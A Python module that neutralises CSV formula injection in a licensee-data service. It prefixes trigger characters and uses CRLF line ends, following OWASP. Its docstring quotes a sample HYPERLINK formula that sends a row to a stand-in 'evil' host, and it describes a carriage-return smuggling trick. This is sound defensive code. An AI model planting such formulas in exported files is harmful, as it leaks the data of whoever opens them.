"""CSV cells that a spreadsheet cannot take for a formula.

A licensee's name or city comes from outside (the regulator's files, ATF's listings) and
goes out again in every CSV the service writes: the ranked list, plans, the
transparency report. A spreadsheet that opens such a file runs any cell starting with
``=``, ``+``, ``-`` or ``@`` (and, in some, tab or carriage return) as a formula:
``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the row it sits in. OWASP's advice
(CSV Injection) is followed: such a cell gets a leading single quote, which spreadsheets
read as "this is text" and do not show; the CSV writer's RFC 4180 quoting does the rest.

Lines end in CRLF, as RFC 4180 has it, and not only for form: Python's CSV writer (and
pandas') quotes a value holding a carriage return only when CR is part of the line end.
With ``"\n"`` alone, a name holding ``"\r=HYPERLINK(...)"`` went out unquoted, and a
spreadsheet started a new row inside it whose first cell was a formula the prefix never
saw. Every writer of the service therefore goes through :func:`csv_writer` (rows) or
:func:`frame_to_csv` (frames).

Only *text* cells are changed. A number stays a number, so that ``-0.5`` or a negative
difference is still summed by the spreadsheet: the values this service writes as numbers
are its own (scores, ranks, counts), never a string from outside. A text cell that looks
like a negative number (``"-2"``) is neutralised like any other text: ``-2+3`` is a
formula too, and no outside text column of this service holds numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from pathlib import Path
from typing import Any, Protocol, TextIO, TypeVar

import pandas as pd

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
#: What is put before such a cell: spreadsheets read it as "text" and hide it.
TEXT_PREFIX = "'"
#: RFC 4180's line end; with it the writers quote any value holding CR or LF.
CSV_LINE_END = "\r\n"

Cell = TypeVar("Cell")


def neutralise_cell(value: Cell) -> Cell | str:
    """``value`` as a CSV cell a spreadsheet reads as text: the one rule of this module.

    A string starting with one of :data:`FORMULA_TRIGGERS` gets :data:`TEXT_PREFIX`
    before it; anything else (other strings, numbers, None) is returned unchanged.

    Examples
    --------
    >>> neutralise_cell("=HYPERLINK(\\"http://x\\")")
    '\\'=HYPERLINK("http://x")'
    >>> neutralise_cell("Alpha Arms"), neutralise_cell(-2.5), neutralise_cell("-2+3")
    ('Alpha Arms', -2.5, "'-2+3")
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return TEXT_PREFIX + value
    return value


def neutralise_row(values: Iterable[object]) -> list[object]:
    """One row for ``csv.writer.writerow``, each cell through :func:`neutralise_cell`."""
    return [neutralise_cell(value) for value in values]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` for ``DataFrame.to_csv``, every text cell neutralised.

    Numeric columns are left alone; in text (or mixed) columns only the string cells
    that :func:`neutralise_cell` would change are rewritten, so the cost is a scan per
    text column.
    """
    out = frame.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        if column.dtype == object:
            # Mixed cells (a count or "<10"): only the strings are candidates.
            starts = column.map(lambda value: neutralise_cell(value) is not value)
        elif pd.api.types.is_string_dtype(column.dtype):
            starts = column.str.startswith(FORMULA_TRIGGERS)  # the same rule, vectorised
        else:
            continue
        hits = starts.fillna(False).to_numpy(dtype=bool)
        if hits.any():
            cells = column.to_numpy(dtype=object, copy=True)
            cells[hits] = [neutralise_cell(value) for value in cells[hits]]
            out.isetitem(position, cells)
    return out


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class CsvWriter:
    """``csv.writer`` with CRLF line ends whose rows go through :func:`neutralise_row`."""

    def __init__(self, buffer: TextIO) -> None:
        self._writer: _Writer = csv.writer(buffer, lineterminator=CSV_LINE_END)

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row (the header too: it is text like any other)."""
        self._writer.writerow(neutralise_row(row))


def csv_writer(buffer: TextIO) -> CsvWriter:
    """The writer every row-by-row CSV of the service uses."""
    return CsvWriter(buffer)


def frame_to_csv(frame: pd.DataFrame, target: str | Path | TextIO, **options: Any) -> None:
    """``frame.to_csv(target, index=False, **options)`` neutralised, with CRLF line ends."""
    neutralise_frame(frame).to_csv(target, index=False, lineterminator=CSV_LINE_END, **options)
